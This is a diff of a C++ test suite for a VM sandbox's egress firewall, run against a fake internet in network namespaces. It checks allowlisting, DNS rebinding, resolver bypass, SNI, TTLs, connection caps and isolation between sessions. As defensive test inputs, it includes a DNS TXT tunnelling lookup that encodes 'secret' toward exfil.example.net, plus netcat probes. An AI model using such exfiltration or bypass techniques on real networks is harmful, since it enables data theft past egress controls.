@@ -1,7 +1,8 @@
 // The egress firewall against a fake internet. For the duration of each test
 // the test process itself moves into a fresh network namespace whose only
 // link is a veth into a second namespace (`ip netns`) holding the fake hosts
-// (192.0.2.0/24, 2001:db8::/64: HTTP on 80/8080, DNS on 192.0.2.53). Neither
+// (192.0.2.0/24, 2001:db8::/64: HTTP on 80/8080, a TLS stand-in on 443/853,
+// DNS over UDP and TCP on 192.0.2.53; see fake_internet.py). Neither
 // namespace has a default route, so nothing can reach this machine's real
 // network; airlock's proxies, QEMU and the janitor all start inside it.
 
@@ -23,6 +24,9 @@
 
 #include "common/fd.h"
 #include "common/subprocess.h"
+#include "airlock_process.h"
+#include "guest_machine.h"
+#include "wire_bytes.h"
 #include "vm/launcher.h"
 #include "vm_test_env.h"
 
@@ -51,6 +55,7 @@ class FakeInternet {
              {ip, "-n", name_, "link", "set", "lo", "up"},
              {ip, "-n", name_, "addr", "add", "192.0.2.10/24", "dev", "in0"},
              {ip, "-n", name_, "addr", "add", "192.0.2.53/24", "dev", "in0"},
+             {ip, "-n", name_, "addr", "add", "192.0.2.20/24", "dev", "in0"},
              {ip, "-n", name_, "-6", "addr", "add", "2001:db8::10/64", "dev", "in0", "nodad"},
              {ip, "-n", name_, "link", "set", "in0", "up"}}) {
       if (auto r = runChecked(cmd); !r) {
@@ -82,6 +87,7 @@ class FakeInternet {
     }
   }
   const std::string& error() const { return error_; }
+  const std::string& name() const { return name_; }
 
  private:
   std::string name_;
@@ -126,36 +132,38 @@ class LoopbackService {
   std::thread thread_;
 };
 
-class FakeInternetTest : public testing::Test {
+class FakeInternetTest : public MachineFixture {
  protected:
   void SetUp() override {
     SKIP_WITHOUT_VMS();
     internet_ = std::make_unique<FakeInternet>();
     ASSERT_EQ(internet_->error(), "");
     service_ = std::make_unique<LoopbackService>();
-    state_ = freshStateDir();
-    vm::LaunchOptions options;
-    options.rootfsDir = testRootfs();
-    auto policy = egress::buildPolicy(profile(), {"allowed.example.com", "rebind.example.com"}, {}, {},
-                                      {{service_->port(), 8000}});
-    ASSERT_TRUE(policy);
-    options.egress = *policy;
-    options.egressNetwork.resolver = egress::IpAddress::parse("192.0.2.53");
-    options.egressNetwork.logPath = state_ + "/egress.log";
-    auto machine = vm::Machine::launch(options);
-    ASSERT_TRUE(machine) << machine.error().message;
-    machine_ = std::move(*machine);
+    MachineFixture::SetUp();
   }
   void TearDown() override {
-    if (machine_) machine_->stop();
-    machine_.reset();
+    MachineFixture::TearDown();
     service_.reset();
+    std::string name = internet_ ? internet_->name() : "";
     internet_.reset();
     auto left = runCommand({"/usr/sbin/ip", "netns", "list"});
     ASSERT_TRUE(left);
-    EXPECT_EQ(left->stdoutText.find("airlock-test-inet"), std::string::npos) << left->stdoutText;
+    // This run's namespace only: other people's test runs may be going on.
+    if (!name.empty()) EXPECT_EQ(left->stdoutText.find(name), std::string::npos) << left->stdoutText;
+  }
+  void configure(vm::LaunchOptions& options) override {
+    egress::Policy policy;
+    policy.profile = profile();
+    policy.hosts = {*egress::parseHostRule("allowed.example.com"), *egress::parseHostRule("rebind.example.com")};
+    policy.hostPorts = {{service_->port(), 8000}};
+    options.egress = policy;
+    options.egressNetwork.resolver = egress::IpAddress::parse("192.0.2.53");
+    options.egressNetwork.logPath = state_ + "/egress.log";
+    tune(options.egressNetwork);
   }
   virtual egress::Profile profile() const { return egress::Profile::kLocked; }
+  /// Adjusts TTL bounds, connection cap, ... of the session network.
+  virtual void tune(egress::NetworkOptions& network) { (void)network; }
   /// Microseconds for a DNS lookup, then the first HTTP exchange with
   /// allowed.example.com, each minus the cost of running an empty guest
   /// command (median of 5 rounds).
@@ -165,11 +173,11 @@ class FakeInternetTest : public testing::Test {
     std::vector<long> dns, http;
     for (int i = 0; i < 5; ++i) {
       auto t0 = Clock::now();
-      sh("nslookup -type=A allowed.example.com");
+      run("nslookup -type=A allowed.example.com");
       auto t1 = Clock::now();
       std::string body = get("192.0.2.10", 80, "allowed.example.com");
       auto t2 = Clock::now();
-      sh("true");
+      run("true");
       auto t3 = Clock::now();
       if (body.find("fake-internet") == std::string::npos) return {-1, -1};
       dns.push_back(us(t1 - t0) - us(t3 - t2));
@@ -179,38 +187,48 @@ class FakeInternetTest : public testing::Test {
     std::sort(http.begin(), http.end());
     return {dns[2], http[2]};
   }
-  std::string sh(const std::string& script) {
-    protocol::ExecRequest r;
-    r.argv = {"sh", "-c", script};
-    r.env = {"PATH=/usr/sbin:/usr/bin:/sbin:/bin"};
-    auto output = std::make_shared<std::string>();
-    auto mutex = std::make_shared<std::mutex>();
-    vm::OutputHandlers handlers;
-    handlers.onStdout = handlers.onStderr = [output, mutex](std::string_view d) {
-      std::lock_guard lock(*mutex);
-      output->append(d);
-    };
-    auto cmd = machine_->vm().control().exec(r, handlers);
-    if (!cmd) return cmd.error().message;
-    (void)(*cmd)->wait();
-    std::lock_guard lock(*mutex);
-    return *output;
-  }
+  /// Runs a guest shell script; its stdout and stderr.
+  std::string run(const std::string& script) { return sh(script).output; }
   /// HTTP GET to ADDRESS:PORT with Host: HOST, via busybox nc.
   std::string get(const std::string& address, int port, const std::string& host) {
-    return sh("printf 'GET / HTTP/1.0\\r\\nHost: " + host + "\\r\\n\\r\\n' | nc -w 5 " + address + " " +
-              std::to_string(port) + " 2>&1");
+    return run("printf 'GET / HTTP/1.0\\r\\nHost: " + host + "\\r\\n\\r\\n' | nc -w 5 " + address + " " +
+               std::to_string(port) + " 2>&1");
+  }
+  /// A ClientHello naming `sni` sent to ADDRESS:PORT; what came back.
+  std::string tls(const std::string& address, int port, const std::string& sni) {
+    return run("printf '" + printfEscaped(clientHello(sni)) + "' | nc -w 5 " + address + " " + std::to_string(port) +
+               " 2>&1");
+  }
+  /// `framed` (DNS-over-TCP queries) sent to ADDRESS:53; the reply bytes in hex.
+  std::string dnsOverTcp(const std::string& address, const std::string& framed) {
+    return run("printf '" + printfEscaped(framed) + "' | nc -w 5 " + address + " 53 | hexdump -v -e '1/1 \"%02x\"'");
+  }
+  /// The session's blocked summary, one "count what: reason" line per entry.
+  std::string blockedText() {
+    std::string text;
+    for (const auto& e : machine_->network()->blocked())
+      text += std::to_string(e.count) + " " + e.what + ": " + e.reason + "\n";
+    return text;
+  }
+  /// Whether the blocked summary has an entry whose what and reason contain the given texts.
+  bool blocked(const std::string& what, const std::string& reason) {
+    for (const auto& e : machine_->network()->blocked())
+      if (e.what.find(what) != std::string::npos && e.reason.find(reason) != std::string::npos) return true;
+    return false;
+  }
+  uint64_t counter(const std::string& name) {
+    auto counters = machine_->network()->dropCounters();
+    EXPECT_TRUE(counters) << counters.error().message;
+    return counters ? (*counters)[name] : 0;
   }
   std::unique_ptr<FakeInternet> internet_;
   std::unique_ptr<LoopbackService> service_;
-  std::string state_;
-  std::unique_ptr<vm::Machine> machine_;
 };
 
 const char* kAllowedBody = "fake-internet host=allowed.example.com";
 
 TEST_F(FakeInternetTest, AllowedNameOverIpv4AndIpv6) {
-  std::string lookup = sh("nslookup -type=A allowed.example.com; nslookup -type=AAAA allowed.example.com");
+  std::string lookup = run("nslookup -type=A allowed.example.com; nslookup -type=AAAA allowed.example.com");
   EXPECT_NE(lookup.find("192.0.2.10"), std::string::npos) << lookup;
   EXPECT_NE(lookup.find("2001:db8::10"), std::string::npos) << lookup;
   EXPECT_NE(get("192.0.2.10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
@@ -220,37 +238,40 @@ TEST_F(FakeInternetTest, AllowedNameOverIpv4AndIpv6) {
 TEST_F(FakeInternetTest, LiteralBeforeLookupDeniedNameWrongHostAndPortAreBlocked) {
   // Nothing answered yet: the address is not in the session's book.
   EXPECT_EQ(get("192.0.2.10", 80, "allowed.example.com").find("fake-internet"), std::string::npos);
-  std::string denied = sh("nslookup other.example.com");
+  std::string denied = run("nslookup other.example.com");
   EXPECT_NE(denied.find("NXDOMAIN"), std::string::npos) << denied;
+  EXPECT_TRUE(blocked("other.example.com A", "not on the allowlist")) << blockedText();
   EXPECT_EQ(denied.find("192.0.2.10"), std::string::npos) << denied;
-  sh("nslookup allowed.example.com");
+  run("nslookup allowed.example.com");
   // Same (shared) IP, but the Host header names an unlisted host.
   EXPECT_EQ(get("192.0.2.10", 80, "other.example.com").find("fake-internet"), std::string::npos);
   // Allowed name on a port it is not allowed on.
   EXPECT_EQ(get("192.0.2.10", 8080, "allowed.example.com").find("fake-internet"), std::string::npos);
   // Another resolver (UDP and TCP 53) gets nothing.
-  std::string other = sh("nslookup -timeout=2 -retry=1 allowed.example.com 192.0.2.53");
+  std::string other = run("nslookup -timeout=2 -retry=1 allowed.example.com 192.0.2.53");
   EXPECT_EQ(other.find("192.0.2.10"), std::string::npos) << other;
   // The allowed path still works.
   EXPECT_NE(get("192.0.2.10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
 }
 
 TEST_F(FakeInternetTest, TxtTunnellingIsRefused) {
-  std::string txt = sh("nslookup -type=TXT c2VjcmV0.exfil.example.net");
+  std::string txt = run("nslookup -type=TXT c2VjcmV0.exfil.example.net");
   EXPECT_NE(txt.find("REFUSED"), std::string::npos) << txt;
-  EXPECT_NE(sh("nslookup allowed.example.com").find("192.0.2.10"), std::string::npos);
+  EXPECT_TRUE(blocked("c2vjcmv0.exfil.example.net TXT", "tunnel type")) << blockedText();
+  EXPECT_NE(run("nslookup allowed.example.com").find("192.0.2.10"), std::string::npos);
 }
 
 TEST_F(FakeInternetTest, RebindingAnswerIsDropped) {
-  std::string lookup = sh("nslookup rebind.example.com");
+  std::string lookup = run("nslookup rebind.example.com");
   EXPECT_EQ(lookup.find("127.0.0.1"), std::string::npos) << lookup;
   EXPECT_EQ(lookup.find("10.1.2.3"), std::string::npos) << lookup;
-  sh("nslookup allowed.example.com");
+  EXPECT_TRUE(blocked("rebind.example.com A -> 127.0.0.1,10.1.2.3", "rebinding")) << blockedText();
+  run("nslookup allowed.example.com");
   EXPECT_NE(get("192.0.2.10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
 }
 
 TEST_F(FakeInternetTest, ProxyStoppedMeansNoNewConnections) {
-  sh("nslookup allowed.example.com");
+  run("nslookup allowed.example.com");
   EXPECT_NE(get("192.0.2.10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
   machine_->network()->stopEgressProxy();
   EXPECT_EQ(get("192.0.2.10", 80, "allowed.example.com").find("fake-internet"), std::string::npos);
@@ -269,6 +290,180 @@ TEST_F(FakeInternetTest, ReportsConnectionSetupLatencyLocked) {
   RecordProperty("dns_us", static_cast<int>(dns));
   RecordProperty("http_us", static_cast<int>(http));
   std::printf("egress latency (locked): dns lookup %ld us, first HTTP exchange %ld us\n", dns, http);
+}
+
+TEST_F(FakeInternetTest, Ipv6LiteralIsDeniedUntilAnsweredForAnAllowedName) {
+  EXPECT_EQ(get("2001:db8::10", 80, "allowed.example.com").find("fake-internet"), std::string::npos);
+  // An A answer does not open the IPv6 address.
+  run("nslookup -type=A allowed.example.com");
+  EXPECT_EQ(get("2001:db8::10", 80, "allowed.example.com").find("fake-internet"), std::string::npos);
+  EXPECT_TRUE(blocked("[2001:db8::10]:80", "not answered by the DNS proxy")) << blockedText();
+  EXPECT_NE(run("nslookup -type=AAAA allowed.example.com").find("2001:db8::10"), std::string::npos);
+  EXPECT_NE(get("2001:db8::10", 80, "allowed.example.com").find(kAllowedBody), std::string::npos);
+}
+
+TEST_F(FakeInternetTest, OtherResolversOverUdpAndTcpAreBlockedTheGatewayAnswersBoth) {
+  const std::string aQuery = framedDnsQuery(0x1234, "allowed.example.com", 1);
+  // The fake resolver does answer over TCP and UDP (so a leak would show).
+  // UDP to it: dropped by the firewall and counted.
+  uint64_t udpDrops = counter("drop_udp");
+  std::string udp = run("nslookup -timeout=2 -retry=1 allowed.example.com 192.0.2.53");
+  EXPECT_EQ(udp.find("192.0.2.10"), std::string::npos) << udp;
+  EXPECT_GT(counter("drop_udp"), udpDrops);
+  // TCP to it: handed to the egress proxy, which refuses it.
+  std::string tcp = dnsOverTcp("192.0.2.53", aQuery);
+  EXPECT_EQ(tcp.find("c000020a"), std::string::npos) << tcp;
+  EXPECT_TRUE(blocked("192.0.2.53:53", "not answered by the DNS proxy")) << blockedText();
+  // The gateway answers over UDP ...
+  EXPECT_NE(run("nslookup allowed.example.com").find("192.0.2.10"), std::string::npos);
+  // ... and over TCP, IPv4 and IPv6, with RFC 7766 framing; two pipelined
+  // queries on one connection get two framed answers in order.
+  std::string gw = dnsOverTcp("10.0.2.2", aQuery + framedDnsQuery(0x1235, "denied.example.net", 1));
+  // length, id 1234, flags 8180 (response, RD, RA, NOERROR), 1 question, 1 answer
+  EXPECT_EQ(gw.find("1234818000010001"), 4u) << gw;
+  EXPECT_NE(gw.find("c000020a"), std::string::npos) << gw;
+  EXPECT_NE(gw.find("12358183"), std::string::npos) << gw;  // id 1235: NXDOMAIN
+  EXPECT_TRUE(blocked("denied.example.net A", "not on the allowlist")) << blockedText();
+  std::string gw6 = dnsOverTcp("fd00:a1::1", framedDnsQuery(0x1236, "allowed.example.com", 28));
+  EXPECT_NE(gw6.find("20010db8000000000000000000000010"), std::string::npos) << gw6;
+  // TCP port 53 of another address never reached the resolver behind it.
+  EXPECT_EQ(tcp, "");
+}
+
+TEST_F(FakeInternetTest, DotAndDohToUnlistedHostsAreBlocked) {
+  std::string lookup = run("nslookup dns.example.net");
+  EXPECT_NE(lookup.find("NXDOMAIN"), std::string::npos) << lookup;
+  // DoT and DoH straight to the resolver's address (as a hard-coded client would).
+  EXPECT_EQ(tls("192.0.2.20", 853, "dns.example.net").find("fake-tls"), std::string::npos);
+  EXPECT_EQ(tls("192.0.2.20", 443, "dns.example.net").find("fake-tls"), std::string::npos);
+  EXPECT_TRUE(blocked("192.0.2.20:853", "not answered")) << blockedText();
+  EXPECT_TRUE(blocked("192.0.2.20:443", "not answered")) << blockedText();
+  run("nslookup allowed.example.com");
+  // DoT to an allowed host's address: 853 is not an allowed port.
+  EXPECT_EQ(tls("192.0.2.10", 853, "allowed.example.com").find("fake-tls"), std::string::npos);
+  EXPECT_TRUE(blocked("192.0.2.10:853", "port 853 not allowed for allowed.example.com")) << blockedText();
+  // HTTPS to the allowed host still works.
+  EXPECT_NE(tls("192.0.2.10", 443, "allowed.example.com").find("fake-tls port=443"), std::string::npos);
+}
+
+TEST_F(FakeInternetTest, SniOfAnotherNameOnAnAllowedAddressIsRefused) {
+  run("nslookup -type=A allowed.example.com; nslookup -type=AAAA allowed.example.com");
+  // 192.0.2.10 was answered for allowed.example.com; other.example.com shares it.
+  EXPECT_EQ(tls("192.0.2.10", 443, "other.example.com").find("fake-tls"), std::string::npos);
+  EXPECT_EQ(tls("2001:db8::10", 443, "other.example.com").find("fake-tls"), std::string::npos);
+  EXPECT_TRUE(blocked("192.0.2.10:443 SNI other.example.com", "SNI is not the allowed name")) << blockedText();
+  EXPECT_TRUE(blocked("[2001:db8::10]:443 SNI other.example.com", "SNI is not the allowed name")) << blockedText();
+  EXPECT_NE(tls("192.0.2.10", 443, "allowed.example.com").find("fake-tls port=443"), std::string::npos);
+  EXPECT_NE(tls("2001:db8::10", 443, "allowed.example.com").find("fake-tls port=443"), std::string::npos);
+}
+
+class ShortTtlFakeInternetTest : public FakeInternetTest {
+ protected:
+  void tune(egress::NetworkOptions& network) override { network.ttlFloor = network.ttlCeiling = std::chrono::seconds(8); }
+};
+
+TEST_F(ShortTtlFakeInternetTest, TtlExpiryRemovesTheAddress) {
+  const std::string fetch = "printf 'GET / HTTP/1.0\\r\\nHost: allowed.example.com\\r\\n\\r\\n' | nc -w 5 192.0.2.10 80";
+  // The guest sees the clamped TTL (300 upstream -> 8).
+  std::string answer = dnsOverTcp("10.0.2.2", framedDnsQuery(0x1234, "allowed.example.com", 1));
+  EXPECT_NE(answer.find("000000080004c000020a"), std::string::npos) << answer;  // TTL 8, rdlength 4, 192.0.2.10
+  std::string first = run("nslookup allowed.example.com >/dev/null; " + fetch);
+  EXPECT_NE(first.find(kAllowedBody), std::string::npos) << first << blockedText();
+  std::this_thread::sleep_for(std::chrono::seconds(9));
+  std::string expired = run(fetch);
+  EXPECT_EQ(expired.find("fake-internet"), std::string::npos) << expired;
+  EXPECT_TRUE(blocked("192.0.2.10:80", "TTL expired")) << blockedText();
+  // A new lookup admits it again.
+  std::string again = run("nslookup allowed.example.com; " + fetch);
+  EXPECT_NE(again.find(kAllowedBody), std::string::npos) << again << blockedText() << slurp(state_ + "/egress.log");
+}
+
+class CappedFakeInternetTest : public FakeInternetTest {
+ protected:
+  void tune(egress::NetworkOptions& network) override { network.maxConnections = 2; }
+};
+
+TEST_F(CappedFakeInternetTest, ConnectionsBeyondTheCapAreRefusedAndLogged) {
+  run("nslookup allowed.example.com");
+  // Two connections that send nothing hold the proxy's two slots (each
+  // waits for its first bytes) while a third, well-formed one is attempted.
+  std::string out = run(
+      "for i in 1 2; do (sleep 6 | nc 192.0.2.10 80) >/dev/null 2>&1 & done; sleep 2; echo THIRD; "
+      "printf 'GET / HTTP/1.0\\r\\nHost: allowed.example.com\\r\\n\\r\\n' | nc -w 5 192.0.2.10 80 2>&1; "
+      "wait; echo AFTER; "
+      "printf 'GET / HTTP/1.0\\r\\nHost: allowed.example.com\\r\\n\\r\\n' | nc -w 5 192.0.2.10 80 2>&1");
+  size_t third = out.find("THIRD"), after = out.find("AFTER");
+  ASSERT_NE(third, std::string::npos) << out;
+  ASSERT_NE(after, std::string::npos) << out;
+  EXPECT_EQ(out.substr(third, after - third).find("fake-internet"), std::string::npos) << out;
+  EXPECT_NE(out.substr(after).find(kAllowedBody), std::string::npos) << out;
+  EXPECT_TRUE(blocked("192.0.2.10:80", "more than 2 concurrent proxied connections")) << blockedText();
+  std::string log = slurp(state_ + "/egress.log");
+  EXPECT_NE(log.find("more than 2 concurrent proxied connections"), std::string::npos) << log;
+}
+
+TEST_F(FakeInternetTest, TwoConcurrentSessionsCannotReachEachOther) {
+  auto second = vm::Machine::launch(launchOptions());
+  ASSERT_TRUE(second) << second.error().message;
+  vm::Machine& a = *machine_;
+  vm::Machine& b = **second;
+  // Both guests have the same 10.0.2.15 / fd00:a1::15, so each also gets an
+  // address of its own outside the tap's subnet (reached, if at all, through
+  // the gateway) and a TCP service naming it; each checks that its own
+  // service answers locally.
+  struct Guest {
+    vm::Machine& machine;
+    std::string v4, v6, name;
+    std::shared_ptr<vm::RemoteCommand> service;
+  } guests[2] = {{a, "198.51.100.16", "2001:db8:a::16", "session-a", nullptr},
+                 {b, "198.51.100.17", "2001:db8:b::17", "session-b", nullptr}};
+  for (auto& g : guests) {
+    auto r = runShell(g.machine, "ip addr add " + g.v4 + "/32 dev lo && ip -6 addr add " + g.v6 +
+                                     "/128 dev lo && echo ADDED");
+    ASSERT_NE(r.output.find("ADDED"), std::string::npos) << r.output;
+    auto service = startInGuest(g.machine, shellRequest("nc -ll -p 7000 -e echo " + g.name),
+                                std::make_shared<GuestOutput>());
+    ASSERT_TRUE(service) << service.error().message;
+    g.service = *service;
+  }
+  for (auto& g : guests) {
+    std::string self;
+    for (int i = 0; i < 50 && self.find(g.name) == std::string::npos; ++i)
+      self = runShell(g.machine, "echo | nc -w 2 " + g.v4 + " 7000; echo | nc -w 2 " + g.v6 + " 7000").output;
+    EXPECT_NE(self.find(g.name + "\n" + g.name), std::string::npos) << "own service over v4 and v6: " << self;
+    EXPECT_EQ(runShell(g.machine, "ping -c 1 -W 2 " + g.v4 + " >/dev/null && echo PONG").output, "PONG\n");
+  }
+  // Both directions, TCP and ICMP, IPv4 and IPv6: nothing reaches the other guest.
+  for (int from = 0; from < 2; ++from) {
+    Guest& src = guests[from];
+    Guest& dst = guests[1 - from];
+    auto icmpBefore = src.machine.network()->dropCounters();
+    ASSERT_TRUE(icmpBefore);
+    auto r = runShell(src.machine, "for t in " + dst.v4 + " " + dst.v6 + "; do "
+                                   "echo \"tcp $t: $(echo | nc -w 3 $t 7000 2>&1)\"; "
+                                   "ping -c 1 -W 2 $t >/dev/null 2>&1 && echo \"icmp $t: reply\" || echo \"icmp $t: none\"; "
+                                   "done");
+    std::printf("isolation %s -> %s:\n%s", src.name.c_str(), dst.name.c_str(), r.output.c_str());
+    EXPECT_EQ(r.output.find(dst.name), std::string::npos) << r.output;
+    EXPECT_NE(r.output.find("icmp " + dst.v4 + ": none"), std::string::npos) << r.output;
+    EXPECT_NE(r.output.find("icmp " + dst.v6 + ": none"), std::string::npos) << r.output;
+    // The attempts left the source guest and were stopped by its own session's firewall.
+    auto icmpAfter = src.machine.network()->dropCounters();
+    ASSERT_TRUE(icmpAfter);
+    EXPECT_GE((*icmpAfter)["drop_icmp"], (*icmpBefore)["drop_icmp"] + 2);
+    bool refusedV4 = false, refusedV6 = false;
+    for (const auto& e : src.machine.network()->blocked()) {
+      refusedV4 |= e.what == dst.v4 + ":7000";
+      refusedV6 |= e.what == "[" + dst.v6 + "]:7000";
+    }
+    EXPECT_TRUE(refusedV4 && refusedV6) << "tcp attempts not refused by " << src.name << "'s own proxy";
+  }
+  // Each session's allowed path still works.
+  for (auto& g : guests)
+    EXPECT_NE(runShell(g.machine, "nslookup allowed.example.com >/dev/null; printf 'GET / HTTP/1.0\\r\\nHost: "
+                                  "allowed.example.com\\r\\n\\r\\n' | nc -w 5 192.0.2.10 80").output.find(kAllowedBody),
+              std::string::npos) << g.name;
+  b.stop();
 }
 
 class PermissiveFakeInternetTest : public FakeInternetTest {
